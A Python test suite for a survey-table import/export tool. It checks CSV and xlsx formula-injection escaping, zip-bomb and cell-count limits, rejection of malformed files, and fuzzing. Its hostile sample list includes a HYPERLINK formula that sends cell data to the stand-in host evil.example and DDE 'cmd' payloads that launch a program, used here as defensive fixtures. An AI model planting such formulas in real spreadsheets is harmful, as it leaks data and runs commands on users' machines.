"""Hostile survey tables (issue 17): formula injection through export-survey and back, strict
tables (ragged rows, duplicate and unknown columns, CSV syntax, mixed encodings), .xlsx archives
checked before openpyxl reads them (expansion, ratio, cells, DTDs), a corpus run through the
CLI (tests/bad/spreadsheets/, with expected.yaml) and a fuzzer of mutated tables."""
from __future__ import annotations

import csv
import importlib.util
import io
import random
import resource
import time
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import HealthCheck, assume, event, given, settings, strategies as st

from entrustment_chain.cli.main import main
from entrustment_chain.graph.errors import InputError
from entrustment_chain.graph.io.loader import chain_from_dict, load_chain
from entrustment_chain.graph.io.survey_table import (
    FORMULA_STARTS,
    MAX_TABLE_CELLS,
    escape_csv_cell,
    export_survey,
    import_survey,
    unescape_cell,
    write_table,
)

SHEETS = Path(__file__).parent / "bad" / "spreadsheets"
EXPECTED = yaml.safe_load((SHEETS / "expected.yaml").read_text(encoding="utf-8"))


def _load_make():
    spec = importlib.util.spec_from_file_location("spreadsheets_make", SHEETS / "make.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


MAKE = _load_make()


def import_cli(table, *options, env=None):
    return CliRunner(env=env).invoke(main, ["import-survey", str(table), "--contractor", "k",
                                            "--contractor-name", "受託者", *map(str, options)])


def export_cli(chain, table, *options):
    return CliRunner().invoke(main, ["export-survey", str(chain), "--contractor", "k", "-o", str(table),
                                     *map(str, options)])


def assert_clean_refusal(result, target: Path | None = None):
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output and "internal error" not in result.output, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    if target is not None:
        assert not target.exists()


# ---------------------------------------------------------------------------------------------
# The corpus


def test_corpus_is_complete():
    files = {p.name for p in SHEETS.iterdir() if p.is_file() and p.name not in ("expected.yaml", "make.py",
                                                                                 ".gitattributes")}
    assert files == set(EXPECTED), "every file needs an expectation, and every expectation a file"
    assert len(files) >= 10
    assert {Path(f).suffix for f in files} == {".csv", ".xlsx"}


def test_corpus_files_are_what_make_py_writes():
    made = MAKE.files()
    assert set(made) == set(EXPECTED)
    for name, data in made.items():
        assert (SHEETS / name).read_bytes() == data, f"{name} differs from what make.py writes: run it"


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_cli_refuses_naming_row_and_column_and_writes_nothing(name, tmp_path):
    code, row, column, fragment = EXPECTED[name]
    target = tmp_path / "out.yaml"
    path = SHEETS / name
    result = import_cli(path, "-o", target)
    assert result.exit_code == code, result.output
    assert_clean_refusal(result, target)
    assert result.stdout == ""
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    location = f"error: {path}:{row}:" if row is not None else f"error: {path}: "
    matching = [e for e in errors if e.startswith(location) and fragment in e]
    assert matching, f"wanted {location} … {fragment!r}; got\n{result.stderr}"
    if column:
        assert any(e.startswith(f"{location} {column}:") for e in matching), result.stderr
    assert tmp_path.exists() and list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_library_raises_input_error_naming_the_file(name):
    with pytest.raises(InputError) as info:
        import_survey(SHEETS / name, "k", "受託者")
    assert info.value.problems
    assert all(p.file == str(SHEETS / name) for p in info.value.problems)


def test_missing_files_and_folders_are_input_errors(tmp_path):
    (tmp_path / "folder.xlsx").mkdir()
    for path in (tmp_path / "nope.csv", tmp_path / "nope.xlsx"):
        result = import_cli(path)
        assert_clean_refusal(result)
        assert f"{path}: cannot read the file: No such file or directory" in result.output, result.output
    for path in (tmp_path, tmp_path / "folder.xlsx"):
        assert_clean_refusal(import_cli(path))  # click refuses a folder for FILE
        with pytest.raises(InputError, match="is a folder, not a file"):
            import_survey(path, "k", "受託者")


# ---------------------------------------------------------------------------------------------
# Formula injection

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+81-3-1234-5678", "-", "-2+3", "@mention",
           "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "'=already quoted", "''+two apostrophes",
           "'plain apostrophe", "#N/A", "=", "@", "+", "=1+1", "東京都"]


def hostile_chain(tmp_path) -> Path:
    orgs = [{"id": "k", "name": "受託者"}]
    entrustments = []
    for i, name in enumerate(HOSTILE):
        consignor = name if i % 2 or name == "-" else f"c{i}"  # hostile ids too
        orgs.append({"id": consignor, "name": name})
        entrustments.append({"id": f"e{i}", "consignor": consignor, "contractor": "k",
                             "informed_subcontractors": [HOSTILE[1]] if i == 3 else (["-"] if i == 5 else []),
                             "evidence": [{"kind": "survey_answer", "note": name}]})
    data = {"schema": "entrustment-chain/v1", "organizations": orgs, "entrustments": entrustments}
    chain_from_dict(data, "hostile.yaml")
    path = tmp_path / "hostile.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-8", "cp932"])
def test_csv_export_writes_no_cell_a_spreadsheet_would_run(tmp_path, encoding):
    table = tmp_path / "t.csv"
    assert export_cli(hostile_chain(tmp_path), table, "--encoding", encoding).exit_code == 0
    rows = list(csv.reader(io.StringIO(table.read_bytes().decode(encoding))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
    assert "'+81-3-1234-5678" in cells and "'-" in cells and "'@mention" in cells
    assert "''=already quoted" in cells and "'plain apostrophe" in cells


def test_xlsx_export_holds_strings_never_formulas(tmp_path):
    from openpyxl import load_workbook

    table = tmp_path / "t.xlsx"
    assert export_cli(hostile_chain(tmp_path), table).exit_code == 0
    with zipfile.ZipFile(table) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml and 't="e"' not in xml
    book = load_workbook(table)  # not read-only: every cell's type
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in cells} == {"s"}
    values = {c.value for c in cells}
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in values and "#N/A" in values
    assert "''=already quoted" in values  # one more apostrophe, so import can tell
    assert all(c.quotePrefix for c in cells if c.value.startswith(FORMULA_STARTS))


@pytest.mark.parametrize("suffix, encoding", [(".csv", "utf-8-sig"), (".csv", "cp932"), (".xlsx", "utf-8-sig")])
def test_hostile_names_round_trip_exactly(tmp_path, suffix, encoding):
    chain_path = hostile_chain(tmp_path)
    table = tmp_path / f"t{suffix}"
    assert export_cli(chain_path, table, "--encoding", encoding).exit_code == 0
    back = tmp_path / "back.yaml"
    result = import_cli(table, "-o", back)
    assert result.exit_code == 0, result.output
    original, imported = load_chain(chain_path), load_chain(back)
    assert export_survey(imported, "k") == export_survey(original, "k")
    names = {o.id: o.name for o in imported.organizations}
    assert names == {o.id: o.name for o in original.organizations if o.id in names}
    again = tmp_path / f"again{suffix}"
    assert export_cli(back, again, "--encoding", encoding).exit_code == 0
    if suffix == ".csv":
        assert again.read_bytes() == table.read_bytes()


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=12))
def test_the_escape_is_reversible_and_safe(value):
    escaped = escape_csv_cell(value)
    assert not escaped.startswith(FORMULA_STARTS)
    assert unescape_cell(escaped) == value


def test_export_refuses_what_the_table_cannot_hold(tmp_path):
    data = {"schema": "entrustment-chain/v1",
            "organizations": [{"id": "k", "name": "受託者"}, {"id": "a", "name": "𠮷野家"}, {"id": "b,c", "name": "B"}],
            "entrustments": [{"id": "e", "consignor": "a", "contractor": "k"},
                             {"id": "f", "consignor": "b,c", "contractor": "k"}]}
    chain = tmp_path / "c.yaml"
    chain.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    target = tmp_path / "t.csv"
    result = export_cli(chain, target, "--encoding", "cp932")  # 𠮷 is not in Shift_JIS
    assert_clean_refusal(result, target)
    assert f"{target}:2: 委託元名:" in result.output and "--encoding utf-8-sig" in result.output
    assert export_cli(chain, target).exit_code == 0
    data["entrustments"][0]["informed_subcontractors"] = ["b,c"]  # the column separates ids with commas
    chain.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    target.unlink()
    result = export_cli(chain, target)
    assert_clean_refusal(result, target)
    assert "entrustments[0].informed_subcontractors" in result.output


# ---------------------------------------------------------------------------------------------
# Limits


def test_a_sheet_of_300000_cells_is_refused_fast_before_openpyxl(tmp_path):
    """The shape of the 417 KB workbook that took 956 MB: many small cells, highly compressed."""
    rows = "".join(f'<row r="{r}">' + "".join(f'<c r="{MAKE.col(c)}{r}"><v>1</v></c>' for c in range(16)) + "</row>"
                   for r in range(1, 18_751))
    table = tmp_path / "big.xlsx"
    table.write_bytes(MAKE.workbook(MAKE.worksheet(rows, dimension="A1:P18750")))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.monotonic()
    result = import_cli(table)
    assert_clean_refusal(result)
    assert f"more than {MAX_TABLE_CELLS:,} cells" in result.output
    assert time.monotonic() - start < 5
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100 * 1024  # KiB


def test_a_sheet_that_claims_to_be_huge_is_read_by_its_cells(tmp_path):
    table = tmp_path / "claims.xlsx"
    good = [MAKE.HEADER, MAKE.ROW_A, MAKE.ROW_B]
    table.write_bytes(MAKE.workbook(MAKE.worksheet(MAKE.sheet_rows(good), dimension="A1:XFD1048576")))
    start = time.monotonic()
    result = import_cli(table)
    assert result.exit_code == 0, result.output
    assert time.monotonic() - start < 5
    assert "東京都" in result.stdout


def _good_csv(tmp_path) -> Path:
    path = tmp_path / "good.csv"
    path.write_text(MAKE.line(MAKE.HEADER) + MAKE.line(MAKE.ROW_A) + MAKE.line(MAKE.ROW_B), encoding="utf-8",
                    newline="")
    assert import_cli(path).exit_code == 0
    return path


def test_limits_are_raised_and_lowered_by_the_environment(tmp_path):
    csv_path = _good_csv(tmp_path)
    xlsx_path = tmp_path / "good.xlsx"
    xlsx_path.write_bytes(MAKE.workbook(MAKE.worksheet(MAKE.sheet_rows([MAKE.HEADER, MAKE.ROW_A, MAKE.ROW_B]))))
    assert import_cli(xlsx_path).exit_code == 0
    for path in (csv_path, xlsx_path):
        result = import_cli(path, env={"ENTRUSTMENT_CHAIN_MAX_TABLE_CELLS": "20"})
        assert_clean_refusal(result)
        assert "more than 20 cells" in result.output and "ENTRUSTMENT_CHAIN_MAX_TABLE_CELLS" in result.output
        result = import_cli(path, env={"ENTRUSTMENT_CHAIN_MAX_TABLE_BYTES": "100"})
        assert_clean_refusal(result)
        assert "over the limit of 100" in result.output
        result = import_cli(path, env={"ENTRUSTMENT_CHAIN_MAX_TABLE_CELLS": "lots"})
        assert_clean_refusal(result)
        assert "ENTRUSTMENT_CHAIN_MAX_TABLE_CELLS" in result.output
    result = import_cli(xlsx_path, env={"ENTRUSTMENT_CHAIN_MAX_XLSX_EXPANDED_BYTES": "1000"})
    assert_clean_refusal(result)
    assert "over the limit of 1,000" in result.output
    ratio = SHEETS / "ratio-bomb.xlsx"  # the ratio is a constant; a higher expansion limit does not lift it
    result = import_cli(ratio, env={"ENTRUSTMENT_CHAIN_MAX_XLSX_EXPANDED_BYTES": str(1 << 30)})
    assert_clean_refusal(result)


# ---------------------------------------------------------------------------------------------
# The fuzzer

NAME_CHARS = st.characters(blacklist_categories=("Cc", "Cs", "Cf", "Co", "Cn", "Zl", "Zp"))
ID_ALPHABET = "abcxyz019甲乙東京=+-@'#_ ."
PERIODS = ["平成27年3月～平成29年3月", "2015-03", "令和元年", "平成27年3月～同年5月", "２０１５年３月"]
TRI = st.sampled_from([True, False, None])


@st.composite
def survey_chains(draw):
    """A valid chain file whose contractor k has 1–6 consignors, with names and ids as hostile as
    the model allows."""
    n = draw(st.integers(1, 6))
    ids = draw(st.lists(st.text(ID_ALPHABET, min_size=1, max_size=6).map(str.strip).filter(bool)
                        .filter(lambda s: s != "k"), min_size=n, max_size=n, unique=True))
    orgs = [{"id": "k", "name": "受託者"}]
    entrustments = []
    for i, consignor in enumerate(ids):
        orgs.append({"id": consignor, "name": draw(st.text(NAME_CHARS, min_size=1, max_size=10)
                                                   .map(str.strip).filter(bool)),
                     "kind": draw(st.sampled_from(["private", "local_government", "public_agency"]))})
        check = draw(TRI)
        entrustment = {
            "id": f"e{i}", "consignor": consignor, "contractor": "k",
            "clauses": {f: draw(TRI) for f in ("transfer_safety", "storage_safety", "disposal_safety",
                                               "subcontract_restriction")},
            "supervision": {"subcontract_check": check,
                            "subcontract_check_method": draw(st.sampled_from(["written", "oral", None])) if check else None,
                            **{f: draw(TRI) for f in ("rules_confirmation", "written_reports", "onsite_inspection")}},
            "informed_subcontractors": draw(st.one_of(st.none(), st.lists(st.sampled_from(ids), unique=True, max_size=2))),
        }
        if draw(st.booleans()):
            entrustment["data_subjects"] = {"count": draw(st.integers(0, 10**7)), "approximate": draw(st.booleans())}
        if draw(st.booleans()):
            entrustment["period"] = draw(st.sampled_from(PERIODS))
        notes = draw(st.lists(st.text(NAME_CHARS | st.sampled_from("\n\t\r,\"'"), min_size=1, max_size=8)
                              .map(str.strip).filter(bool), max_size=2))
        entrustment["evidence"] = [{"kind": "survey_answer", "note": note} for note in notes]
        entrustments.append(entrustment)
    return chain_from_dict({"schema": "entrustment-chain/v1", "organizations": orgs, "entrustments": entrustments},
                           "generated.yaml")


def _cp932_ok(rows) -> bool:
    try:
        "".join(escape_csv_cell(c) for row in rows for c in row).encode("cp932")
        return True
    except UnicodeEncodeError:
        return False


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
@given(survey_chains(), st.sampled_from([".csv utf-8-sig", ".csv utf-8", ".csv cp932", ".xlsx"]))
def test_valid_tables_round_trip_exactly(tmp_path_factory, chain, form):
    suffix, _, encoding = form.partition(" ")
    rows = export_survey(chain, "k")
    assume(encoding != "cp932" or _cp932_ok(rows))
    table = tmp_path_factory.mktemp("rt") / f"t{suffix}"
    write_table(rows, table, encoding or "utf-8-sig")
    imported = chain_from_dict(import_survey(table, "k", "受託者"), "imported")
    assert export_survey(imported, "k") == rows


JUNK = st.one_of(st.text(max_size=8), st.sampled_from(
    ["", "=1+1", "'=x", "あり", "なし", "回答不能", "maybe", "平成32年", "約", "-", "\x00", "\r", "\n", '"', ",",
     "x" * 300, "\u202e", "\ufeff", "＝", "東京都"]))
MUTATIONS = st.lists(st.tuples(
    st.sampled_from(["junk", "drop-row", "dup-row", "shuffle-columns", "dup-column", "drop-cell", "add-cell",
                     "drop-column", "blank-row"]),
    st.integers(0, 10**6), st.integers(0, 10**6), JUNK), max_size=5)


def _mutate(rows: list[list[str]], mutations) -> list[list[str]]:
    rows = [list(r) for r in rows]
    for kind, a, b, junk in mutations:
        if not rows:
            break
        r = a % len(rows)
        width = max(len(row) for row in rows) or 1
        c = b % width
        if kind == "junk" and rows[r]:
            rows[r][b % len(rows[r])] = junk
        elif kind == "drop-row":
            rows.pop(r)
        elif kind == "dup-row":
            rows.insert(r, list(rows[r]))
        elif kind == "shuffle-columns":
            order = list(range(width))
            random.Random(a).shuffle(order)
            rows = [[row[i] for i in order if i < len(row)] for row in rows]
        elif kind == "dup-column":
            rows = [row + [row[c]] if c < len(row) else row for row in rows]
        elif kind == "drop-column":
            rows = [row[:c] + row[c + 1:] for row in rows]
        elif kind == "drop-cell" and rows[r]:
            rows[r].pop(b % len(rows[r]))
        elif kind == "add-cell":
            rows[r].append(junk)
        elif kind == "blank-row":
            rows.insert(r, [])
    return rows


def _write_mutated(rows, path: Path, how: str, data) -> None:
    if how == "xlsx":
        from openpyxl import Workbook
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        book = Workbook()
        for row in rows:
            book.active.append([data.draw(st.sampled_from([c, c, c, 1, 2.5, True, None]))
                                if c else c for c in (ILLEGAL_CHARACTERS_RE.sub("", c) for c in row)])
        book.save(path)
        return
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    lines = out.getvalue().splitlines(keepends=True)
    if how == "mixed":  # each row in an encoding of its own
        encoded = b"".join(line.encode(data.draw(st.sampled_from(["utf-8", "cp932"])), "replace") for line in lines)
    else:
        encoded = out.getvalue().encode(how, "replace")
    for _ in range(data.draw(st.integers(0, 2))):  # a few damaged bytes
        if encoded:
            at = data.draw(st.integers(0, len(encoded) - 1))
            encoded = encoded[:at] + bytes([data.draw(st.integers(0, 255))]) + encoded[at + 1:]
    path.write_bytes(encoded)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(survey_chains(), MUTATIONS, st.sampled_from(["utf-8", "utf-8-sig", "cp932", "mixed", "xlsx"]), st.data())
def test_mutated_tables_are_imported_or_refused_cleanly(tmp_path_factory, chain, mutations, how, data):
    rows = _mutate(export_survey(chain, "k"), mutations)
    table = tmp_path_factory.mktemp("fuzz") / ("t.xlsx" if how == "xlsx" else "t.csv")
    _write_mutated(rows, table, how, data)
    try:
        imported = import_survey(table, "k", "受託者")
    except InputError as error:
        assert error.problems and all(p.file == str(table) for p in error.problems), error.problems
        event(f"refused ({'a row named' if any(p.line for p in error.problems) else 'the file as a whole'})")
        return
    chain_from_dict(imported, "imported")  # what is imported is a valid chain file
    event("imported")


# ---------------------------------------------------------------------------------------------
# Outputs


def test_no_output_replaces_an_input(tmp_path):
    chain_path = hostile_chain(tmp_path)
    before = chain_path.read_bytes()
    assert_clean_refusal(export_cli(chain_path, chain_path))
    table = tmp_path / "t.csv"
    assert export_cli(chain_path, table).exit_code == 0
    written = table.read_bytes()
    for options in (["-o", table], ["--into", chain_path, "-o", chain_path]):
        result = import_cli(table, *options)
        assert_clean_refusal(result)
        assert "is the input file" in result.output
    assert chain_path.read_bytes() == before and table.read_bytes() == written


def test_export_to_standard_output_is_the_csv_it_would_write(tmp_path):
    chain_path = hostile_chain(tmp_path)
    for encoding in ("utf-8-sig", "cp932"):
        table = tmp_path / f"t.{encoding}.csv"
        assert export_cli(chain_path, table, "--encoding", encoding).exit_code == 0
        result = export_cli(chain_path, "-", "--encoding", encoding)
        assert result.exit_code == 0, result.output
        assert result.stdout_bytes == table.read_bytes()
        assert result.stderr == f"{len(HOSTILE)} rows written to standard output\n"
    assert not (tmp_path / "-").exists()


def test_a_count_of_5000_digits_is_a_cell_error(tmp_path):
    """int() refuses strings of over 4,300 digits with a ValueError: the cell is named instead."""
    import csv as _csv

    from click.testing import CliRunner as _Runner

    from entrustment_chain.cli.main import main as _main

    table = tmp_path / "t.csv"
    assert _Runner().invoke(_main, ["export-survey", "fixtures/procx-2024/chain.yaml", "--contractor", "procx",
                                    "-o", str(table), "--encoding", "utf-8"]).exit_code == 0
    rows = list(_csv.reader(table.open(encoding="utf-8", newline="")))
    rows[1][rows[0].index("本人数")] = "9" * 5000
    with table.open("w", encoding="utf-8", newline="") as handle:
        _csv.writer(handle).writerows(rows)
    result = _Runner().invoke(_main, ["import-survey", str(table), "--contractor", "procx",
                                      "--contractor-name", "X"])
    assert result.exit_code == 2, result.output
    assert f"{table}:2: 本人数: a number of 5,000 digits" in result.output
    assert "internal error" not in result.output and "Traceback" not in result.output


def test_a_fifo_is_refused_without_waiting(tmp_path):
    """A named pipe given as a survey table is refused at once, not waited on (a review found
    import-survey hanging on one)."""
    import os
    import subprocess
    import sys

    fifo = tmp_path / "fifo.csv"
    os.mkfifo(fifo)
    result = subprocess.run([sys.executable, "-m", "entrustment_chain", "import-survey", str(fifo),
                             "--contractor", "c", "--contractor-name", "C"], capture_output=True, text=True,
                            timeout=20)
    assert result.returncode == 2 and "named pipe" in result.stderr, result.stderr
